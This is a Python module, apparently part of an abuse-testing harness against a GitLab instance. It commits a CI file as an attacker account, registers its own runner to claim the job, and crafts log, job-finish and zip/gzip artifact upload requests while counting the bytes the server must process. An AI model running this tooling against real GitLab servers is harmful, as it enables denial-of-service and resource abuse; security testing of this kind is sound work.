"""Requests as values, and jobs of the attacker's project in the hands of a runner of its own."""

import gzip
import io
import zipfile
from collections.abc import Mapping
from itertools import count

import aiohttp
import attrs
import orjson

from scripts.abuse.place import Place, read_all

_numbers = count()
_BOUNDARY = "files-of-a-job"


@attrs.frozen
class Request:
    """One request, by a stranger unless the headers say who. `worked_on` are the bytes that were sent before, and are
    worked on with it."""

    method: str
    url: str
    body: bytes = b""
    headers: Mapping[str, str] = attrs.field(factory=dict)
    worked_on: int = 0

    @property
    def size(self) -> int:
        """All bytes that the server has to work on."""
        return len(self.url) + len(self.body) + sum(map(len, self.headers.values())) + self.worked_on

    async def send(self, http: aiohttp.ClientSession) -> str:
        """Send it and read the answer; its status."""
        async with http.request(
            self.method,
            self.url,
            data=io.BytesIO(self.body) if self.body else None,
            headers={"Content-Type": "application/octet-stream", **self.headers}
            if self.body
            else self.headers,
            allow_redirects=False,
        ) as answer:
            return await read_all(answer)


@attrs.frozen
class Job:
    """A running job, and the id of its pipeline."""

    id: int
    token: str
    pipeline: int
    api: str

    def log(self, text: bytes) -> Request:
        """The whole log in one piece."""
        headers = {"JOB-TOKEN": self.token, "Content-Range": f"0-{len(text) - 1}"}
        return Request("PATCH", f"{self.api}/jobs/{self.id}/trace", text, headers)

    def finish(self) -> Request:
        """Its success."""
        body = orjson.dumps({"token": self.token, "state": "success"})
        return Request("PUT", f"{self.api}/jobs/{self.id}", body, {"Content-Type": "application/json"})

    def upload(self, files: Mapping[str, str], report: str = "") -> Request:
        """An archive of files, or a report, which is one file."""
        content, query = _archive(files), ""
        if report:
            content = gzip.compress("".join(files.values()).encode())
            query = f"?artifact_type={report}&artifact_format=gzip"
        head = (
            f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        )
        body = head.encode() + content + f"\r\n--{_BOUNDARY}--\r\n".encode()
        headers = {"JOB-TOKEN": self.token, "Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}
        return Request("POST", f"{self.api}/jobs/{self.id}/artifacts{query}", body, headers)


async def running(place: Place, http: aiohttp.ClientSession, file: str) -> Job:
    """The only job of a new pipeline with that CI file, running."""
    api, project = f"{place.api_url}/api/v4", place.project(place.mine)
    branch = f"job-{next(_numbers)}"
    actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": file}]
    commit = {"branch": branch, "start_branch": "main", "commit_message": "Job", "actions": actions}
    async with http.post(f"{project}/repository/commits", json=commit, headers=place.as_attacker) as answer:
        answer.raise_for_status()
    async with http.get(project, headers=place.as_attacker) as answer:
        project_id = (await answer.json())["id"]
    runner = {"runner_type": "project_type", "project_id": project_id, "run_untagged": True}
    async with http.post(f"{api}/user/runners", json=runner, headers=place.as_attacker) as answer:
        token = (await answer.json())["token"]
    while True:
        async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
            given = await answer.json() if answer.status == 201 else None
        if given and given["git_info"]["ref"] == branch:
            variables = {one["key"]: one["value"] for one in given["variables"]}
            return Job(given["id"], given["token"], int(variables["CI_PIPELINE_ID"]), api)


def _archive(files: Mapping[str, str]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return file.getvalue()
